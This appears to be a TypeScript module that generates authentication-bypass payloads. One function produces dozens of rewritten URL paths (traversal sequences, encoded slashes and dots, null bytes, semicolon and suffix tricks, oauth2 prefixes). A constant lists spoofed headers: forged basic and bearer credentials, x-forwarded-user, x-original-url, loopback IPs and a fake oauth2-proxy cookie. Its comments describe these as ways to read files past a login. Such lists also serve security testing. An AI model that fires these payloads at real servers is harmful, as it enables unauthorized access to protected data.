/** Other ways to write an address, with which files were read past a login on one server or another. */
export function pathTricks(address: string): string[] {
  const [, ...parts] = address.split('/');
  const name = parts.at(-1) ?? '';
  const folder = address.slice(1, address.length - name.length);
  const upper = address.toUpperCase();
  const escaped = [...address].map((letter) => (letter === '/' ? letter : `%${hex(letter)}`)).join('');
  return [
    `/${address}`,
    `//${parts.join('//')}`,
    `/./${parts.join('/./')}`,
    `/x/..${address}`,
    `/x/%2e%2e${address}`,
    `/x/%2E%2E/${folder}${name}`,
    `/..${address}`,
    `/%2e%2e${address}`,
    `/oauth2/..${address}`,
    `/oauth2/%2e%2e${address}`,
    `/oauth2/auth/..${address}`,
    `/oauth2%2f..${address}`,
    `/oauth2/..;${address}`,
    `/oauth2\\..\\${parts.join('\\')}`,
    `\\${parts.join('\\')}`,
    `/%5c${parts.join('%5c')}`,
    `/%2f${parts.join('%2f')}`,
    `/${parts.join('%2F')}`,
    `/${parts.join('%252f')}`,
    `/${folder}.%2f${name}`,
    `${address}/`,
    `${address}.`,
    `${address}%20`,
    `${address}%00`,
    `${address}%00.css`,
    `${address}/.`,
    `${address}/..`,
    `${address}/x/..`,
    `${address};`,
    `${address};x=.css`,
    `${address}?`,
    `${address}?/oauth2/auth`,
    `${address}#x`,
    `${address}.br`,
    `${address}.gz`,
    `${address}~`,
    escaped,
    upper,
    `http://127.0.0.1${address}`,
    `http://elsewhere.example${address}`,
  ];
}

function hex(letter: string): string {
  return letter.charCodeAt(0).toString(16).padStart(2, '0');
}

/** Headers with which some servers let one in, or that change what an answer is. */
export const headerTricks: readonly Record<string, string>[] = [
  { authorization: `Basic ${Buffer.from('agen:salah').toString('base64')}` },
  { authorization: `Basic ${Buffer.from(':').toString('base64')}` },
  { authorization: 'Bearer x' },
  { 'x-forwarded-user': 'agen', 'x-forwarded-email': 'agen@example.test', 'x-auth-request-user': 'agen' },
  { 'x-original-url': '/oauth2/auth', 'x-rewrite-url': '/oauth2/auth', 'x-original-uri': '/oauth2/auth' },
  { 'x-accel-redirect': '/index.html', 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
  { range: 'bytes=0-99' },
  { 'if-none-match': '*' },
  { 'if-modified-since': 'Fri, 31 Dec 2099 23:59:59 GMT' },
  { 'accept-encoding': 'br' },
  { cookie: '_oauth2_proxy=x' },
];
